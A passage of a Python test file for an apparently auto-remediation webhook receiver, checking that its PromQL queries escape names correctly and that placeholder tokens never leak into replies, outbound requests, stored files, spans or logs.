    # The literal is one double-quoted string whose escapes (\\ \" \n) read back to exactly VALUE.
    assert literal.startswith('"') and literal.endswith('"') and "\n" not in literal
    assert json.loads(literal, strict=False) == value


# Go's string-literal escapes, which PromQL's double-quoted strings use; anything else is a parse error.
_PROMQL_STRING = re.compile(r'"((?:[^"\\]|\\.)*)"', re.S)
_PROMQL_ESCAPE = re.compile(r'\\(?:[abfnrtv\\\'"]|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{3})')


def promql_literal_problems(query: str) -> list[str]:
    """Double-quoted literals of QUERY that Prometheus would refuse to parse (raw newline, unknown escape)."""
    problems = []
    for match in _PROMQL_STRING.finditer(query):
        inner = match.group(1)
        if "\n" in inner or "\\" in _PROMQL_ESCAPE.sub("", inner):
            problems.append(match.group(0))
    return problems


def test_the_promql_literal_checker_agrees_with_prometheus():
    # promtool check rules: `agent=~"a\.b"` is "unknown escape sequence U+002E '.'", `agent=~"a\\.b"` parses.
    assert promql_literal_problems('x{agent=~"a\\.b"}') == ['"a\\.b"']
    assert promql_literal_problems('x{agent=~"a\\\\.b", b="q\\"\\n"}') == []


# re.escape("data-feed") is "data\\-feed"; inside a PromQL double-quoted string "\\-" is an unknown escape, so
# Prometheus refuses the query and read_agent raises UpstreamError: dependency checks never run.
def test_every_promql_query_built_for_an_agent_parses_whatever_its_names():
    from webhook_receiver.agent_view import read_agent

    prom = FakePrometheus()
    prom.add("Agent_1.x-y", "Marketing", status="error", errorCode="INPUT_MISSING", directiveId="D-1.2:3")
    prom.docs["Agent_1.x-y"]["context"]["dependencies"] = ["data-feed", "Market.Intel"]
    read_agent(prom, "Agent_1.x-y", frozenset({"DATA_DEP"}), 120, 25)
    assert any("data" in q and "=~" in q for q in prom.queries), prom.queries
    assert [p for q in prom.queries for p in promql_literal_problems(q)] == []


# ---------------------------------------------------------------------------------------- secrets

SECRET_VALUES = {
    "AUTOREM_WEBHOOK_TOKEN": "SECRET-WEBHOOK-7f3a",
    "AUTOREM_READ_TOKEN": "SECRET-READ-b52e",
    "AUTOREM_ESCALATION_TOKEN": "SECRET-ESCALATION-c91d",
    "AUTOREM_EXPORTER_TOKEN": "SECRET-EXPORTER-4e08",
}
PRESENTED = "SECRET-PRESENTED-wrong-9a17"


def secret_env(tmp_path: Path, **extra) -> dict:
    token_file = tmp_path / "webhook_token"
    token_file.write_text(SECRET_VALUES["AUTOREM_WEBHOOK_TOKEN"] + "\n")  # the *_FILE way, newline tolerated
    return {"AUTOREM_WEBHOOK_TOKEN_FILE": str(token_file),
            **{k: v for k, v in SECRET_VALUES.items() if k != "AUTOREM_WEBHOOK_TOKEN"}, **extra}


def assert_no_secret(where: str, text: str) -> None:
    for name, value in SECRET_VALUES.items():
        assert value not in text, f"{name}'s value appears in {where}"
        assert value[len("SECRET-"):] not in text, f"{name}'s value (without prefix) appears in {where}"


def test_settings_and_secrets_print_only_names(tmp_path):
    settings = Settings.from_env(secret_env(tmp_path))
    for name in SECRET_VALUES:
        secret = getattr(settings, name.removeprefix("AUTOREM_").lower())
        assert isinstance(secret, Secret) and secret.reveal() == SECRET_VALUES[name]
        assert repr(secret) == str(secret) == f"{secret}" == f"<secret {name}>"
        assert_no_secret("the Secret's repr", repr(secret) + str(secret) + format(secret) + repr([secret]))
    texts = [repr(settings), str(settings), repr(dataclasses.asdict(settings)), repr(Settings.table()),
             repr(dataclasses.replace(settings))]
    assert_no_secret("Settings' repr", "\n".join(texts))
    assert "AUTOREM_WEBHOOK_TOKEN" in repr(settings)  # the names do appear


def test_a_401_never_echoes_the_presented_token(tmp_path, make_receiver):
    settings = receiver_settings(**secret_env(tmp_path))
    app = make_receiver(settings=settings, data_dir=tmp_path / "data", token_from_settings=True)
    exp = exporter_app.create_app({"SETTINGS": settings})
    try:
        web, ex = app.test_client(), exp.test_client()
        real = SECRET_VALUES["AUTOREM_WEBHOOK_TOKEN"]
        for presented in (PRESENTED, real[:-1], real + "x", real.lower()):
            header = {"Authorization": f"Bearer {presented}"}
            replies = [
                post(web, ALERTS, dumps(valid_body(ALERTS)), headers=header),
                post(web, SIGNALS, dumps(valid_body(SIGNALS)), headers=header),
                web.put("/api/v1/remediation", json={"enabled": False}, headers=header),
                web.get("/api/v1/incidents", headers=header),
                web.get("/api/v1/incidents", query_string={"token": presented}),
                web.get("/lineage", query_string={"token": presented, "agent": "CMO"}),
                post(ex, SIGNALS, dumps(valid_body(SIGNALS)), headers=header),
            ]
            for reply in replies:
                assert reply.status_code == 401
                assert reply.headers["WWW-Authenticate"] == "Bearer"
                text = reply.get_data(as_text=True) + repr(list(reply.headers.items()))
                assert presented not in text and PRESENTED not in text
                assert_no_secret("a 401 answer", text)
        assert receiver_stored(app)[:2] == (0, 0) and exporter_stored(exp) == ()
    finally:
        make_receiver.close(app)


def test_the_fleets_check_secrets_answers_names_only(monkeypatch):
    monkeypatch.setenv("API_BASE", "SECRET-API-BASE-value-6c2f")
    fleet = SimulatedFleet()
    web = fleet.app.test_client()
    fleet.inject("Content", "missing-secret", fixable=False)
    reply = web.post("/agents/Content/actions/checkSecrets", json={"required": list(REQUIRED_SECRETS)},
                     headers={"Authorization": f"Bearer {fleet.action_token.reveal()}"})
    assert reply.status_code == 409
    assert reply.get_json() == {"missing": ["API_BASE"]}
    assert set(reply.get_json()["missing"]) <= set(REQUIRED_SECRETS)
    state = web.get("/fleet/state").get_json()
    assert state["Content"]["missingSecrets"] == ["API_BASE"]
    for text in (reply.get_data(as_text=True), json.dumps(state)):
        assert "SECRET-API-BASE" not in text
    fleet.clear("Content")
    fleet.inject("Content", "missing-secret", fixable=True)
    reply = web.post("/agents/Content/actions/checkSecrets", json={"required": list(REQUIRED_SECRETS)},
                     headers={"Authorization": f"Bearer {fleet.action_token.reveal()}"})
    assert (reply.status_code, reply.get_json()) == (200, {"missing": []})


def test_one_escalated_remediation_end_to_end_leaks_no_secret_value(tmp_path, caplog, capsys, make_receiver):
    caplog.set_level(logging.DEBUG)  # the root logger: every library's records are captured
    capture = Capture(status_for=lambda path: 500 if path.startswith("/agents/") else 200)
    spans = InMemorySpanExporter()
    settings = receiver_settings(**secret_env(
        tmp_path, AUTOREM_ESCALATION_URL=capture.url + "/ceo/escalations", AUTOREM_MAX_ATTEMPTS="2",
        AUTOREM_VERIFY_TIMEOUT_SECONDS="0.3", AUTOREM_VERIFY_INTERVAL_SECONDS="0.05"))
    doc = yaml.safe_load(DEFAULT_PATH.read_text())
    doc["actions"].update(baseUrl=capture.url, timeoutSeconds=2,
                          retry={"attempts": 2, "backoffSeconds": 0.01, "maxBackoffSeconds": 0.02, "jitter": 0})
    data_dir = tmp_path / "data"
    app = make_receiver(settings=settings, data_dir=data_dir, token_from_settings=True,
                        PLAYBOOKS=parse_playbooks(doc), SPAN_EXPORTER=spans, PUBLIC_URL="http://receiver.test")
    exp = exporter_app.create_app({"SETTINGS": settings})
    outputs: list[tuple[str, str]] = []
    try:
        prom, am = FakePrometheus(), FakeAlertmanager()
        state = app.extensions["autonomy_receiver"]
        state.engine.up = Upstreams(prometheus=prom, alertmanager=am, latest_signal=state.signals.latest,
                                    all_signals=lambda: [e.signal for e in state.signals.snapshot()])
        prom.add("CRO", "Revenue")
        prom.add("CMO", "Marketing", status="error", errorCode="TIMEOUT", lastTaskSucceeded=False, successRate=0.5)
        am.fire("CMO", "TRANSIENT")
        web, ex = app.test_client(), exp.test_client()
        write = {"Authorization": f"Bearer {SECRET_VALUES['AUTOREM_WEBHOOK_TOKEN']}"}
        read = {"Authorization": f"Bearer {SECRET_VALUES['AUTOREM_READ_TOKEN']}"}

        def keep(label, reply):
            outputs.append((label, reply.get_data(as_text=True) + repr(list(reply.headers.items()))))
            return reply

        reply = keep("webhook", post(web, ALERTS, dumps(valid_body(ALERTS)), headers=write))
        assert reply.status_code == 200, reply.get_json()
        [incident_id] = reply.get_json()["opened"]
        state.engine.process(incident_id)
        incident = state.store.get(incident_id)
        assert incident.state == "escalated" and incident.attempts == 2

        # The tokens were in use...
        escalations = [r for r in capture.requests if r["path"] == "/ceo/escalations"]
        actions = [r for r in capture.requests if r["path"].startswith("/agents/")]
        assert len(escalations) == 1 and len(actions) == 4  # 2 attempts x restartAgent x 2 tries
        assert escalations[0]["headers"]["Authorization"] == f"Bearer {SECRET_VALUES['AUTOREM_ESCALATION_TOKEN']}"
        assert json.loads(escalations[0]["body"])["reason"] == "AutoRemediationFailed"
        for seen in capture.requests:  # ...only where it belongs: the escalation's Authorization header
            headers = {k: v for k, v in seen["headers"].items()
                       if not (seen is escalations[0] and k == "Authorization")}
            outputs.append((f"request to {seen['path']}", repr(headers) + seen["body"] + str(seen["raw_uri"])))
        signal_doc = valid_body(SIGNALS)
        signal_doc["agent"] = "Content"
        keep("direct signal", post(web, SIGNALS, dumps(signal_doc), headers=write))
        keep("kill switch", web.put("/api/v1/remediation", json={"enabled": True, "reason": "test"}, headers=write))
        keep("exporter push", post(ex, SIGNALS, dumps(valid_body(SIGNALS)),
                                   headers={"Authorization": f"Bearer {SECRET_VALUES['AUTOREM_EXPORTER_TOKEN']}"}))
        for url in ("/api/v1/incidents", f"/api/v1/incidents/{incident_id}", "/api/v1/lineage",
                    "/lineage?agent=CMO", "/api/v1/remediation"):
            assert keep(url, web.get(url, headers=read)).status_code == 200
        keep("lineage by ?token=", web.get("/lineage", query_string={"token": SECRET_VALUES["AUTOREM_READ_TOKEN"]}))
        for url in ("/metrics", "/healthz", "/readyz"):
            keep(url, web.get(url))
            keep(f"exporter {url}", ex.get(url))
        keep("401", post(web, ALERTS, dumps(valid_body(ALERTS)), headers={"Authorization": f"Bearer {PRESENTED}"}))
        state.engine.sweep()
    finally:
        make_receiver.close(app)
        capture.stop()

    lineage_text = (data_dir / LINEAGE_FILE).read_text()
    assert '"event":"escalation"' in lineage_text
    outputs.append(("the lineage file", lineage_text))
    for path in sorted(data_dir.iterdir()):  # the SQLite ledger, its WAL, the lineage
        outputs.append((str(path.name), path.read_bytes().decode("utf-8", "replace")))
    outputs.append(("Alertmanager", json.dumps(am.posted)))
    outputs.append(("spans", repr([(s.name, dict(s.attributes), [dict(e.attributes) for e in s.events])
                                   for s in spans.get_finished_spans()])))
    records = "\n".join(f"{r.name} {r.levelname} {r.getMessage()} {r.exc_text or ''}" for r in caplog.records)
    outputs.append(("log records", records + caplog.text))
    out = capsys.readouterr()
    outputs.append(("stdout/stderr", out.out + out.err))
    for where, text in outputs:
        assert_no_secret(where, text)
